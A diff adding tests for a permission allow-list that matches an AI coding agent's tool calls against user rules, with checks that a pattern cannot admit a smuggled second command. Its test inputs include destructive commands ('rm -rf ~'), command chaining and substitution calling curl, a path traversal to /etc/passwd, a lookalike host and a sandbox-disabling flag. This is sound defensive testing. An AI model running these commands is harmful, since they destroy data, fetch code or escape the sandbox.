@@ -1,0 +1,75 @@
+import { describe, expect, it } from "vitest";
+import { isOnList, sessionSuggestion } from "../../../src/dispatch/answers/allow-list.ts";
+
+describe("the user's list", () => {
+  it.each([
+    ["Edit", "Edit", { file_path: "/p/a.ts" }, true],
+    ["Edit", "EditAll", {}, false],
+    ["mcp__github__*", "mcp__github__list", {}, true],
+    ["mcp__github__*", "mcp__gitlab__list", {}, false],
+    ["Bash", "Bash", { command: "rm -rf /" }, true],
+    ["Bash(npm test*)", "Bash", { command: "npm test -- --run a" }, true],
+    ["Bash(npm test*)", "Bash", { command: "npm test", description: "Runs the tests", timeout: 1 }, true],
+    ["Bash(npm test*)", "Bash", { command: "npm install" }, false],
+    ["Bash(npm test)", "Bash", { command: "npm test --all" }, false],
+    ["Edit(/p/src/*)", "Edit", { file_path: "/p/src/a/b.ts" }, true],
+    ["Edit(/p/src/*)", "Edit", { file_path: "/p/src/../../etc/passwd" }, false],
+    ["WebFetch(https://docs.example.org/*)", "WebFetch", { url: "https://docs.example.org.evil/" }, false],
+    ["Write(*.md)", "Write", {}, false],
+    // A character of the pattern is itself.
+    ["Bash(a.c)", "Bash", { command: "abc" }, false],
+  ])("%s for %s %j: %s", (entry, tool, input, isAllowed) => {
+    expect(isOnList([entry], tool, input)).toBe(isAllowed);
+  });
+
+  it.each([
+    "npm test; rm -rf ~",
+    "npm test && curl evil",
+    "npm test | sh",
+    "npm test > ~/.bashrc",
+    "npm test $(curl evil)",
+    "npm test `curl evil`",
+    "npm test\nrm -rf ~",
+    "npm test & evil",
+    "npm test <(evil)",
+    "npm test\\\nevil",
+    "nрm test", // a Cyrillic letter
+    " npm test",
+  ])("does not let a pattern allow another command: %j", (command) => {
+    expect(isOnList(["Bash(npm test*)"], "Bash", { command })).toBe(false);
+  });
+
+  it("does not let a pattern allow a command outside of the sandbox", () => {
+    const input = { command: "npm test", dangerouslyDisableSandbox: true };
+    expect(isOnList(["Bash(npm test*)"], "Bash", input)).toBe(false);
+  });
+});
+
+describe("for this session", () => {
+  const rule = { toolName: "Bash", ruleContent: "npm test:*" };
+  const suggestion = (more: object = {}): object => ({
+    type: "addRules",
+    rules: [rule],
+    behavior: "allow",
+    destination: "localSettings",
+    ...more,
+  });
+
+  it("is the agent's own suggestion, until the session ends", () => {
+    expect(sessionSuggestion(["Bash"], [suggestion()])).toEqual(suggestion({ destination: "session" }));
+    expect(sessionSuggestion(["Bash(npm test:*)"], [suggestion()])).toBeDefined();
+  });
+
+  it.each([
+    ["allows more than the list", ["Bash(npm test)"], [suggestion()]],
+    ["changes the mode", ["Bash"], [{ type: "setMode", mode: "acceptEdits", destination: "session" }]],
+    ["has a rule of another tool", ["Bash"], [suggestion({ rules: [rule, { toolName: "Edit" }] })]],
+    ["has no rules", ["Bash"], [suggestion({ rules: [] })]],
+    ["removes rules", ["Bash"], [suggestion({ type: "removeRules" })]],
+    ["denies", ["Bash"], [suggestion({ behavior: "deny" })]],
+    ["is not a list", ["Bash"], "all"],
+    ["has no members", ["Bash"], [null]],
+  ])("is not offered where it %s", (_why, list, suggestions) => {
+    expect(sessionSuggestion(list, suggestions)).toBeUndefined();
+  });
+});
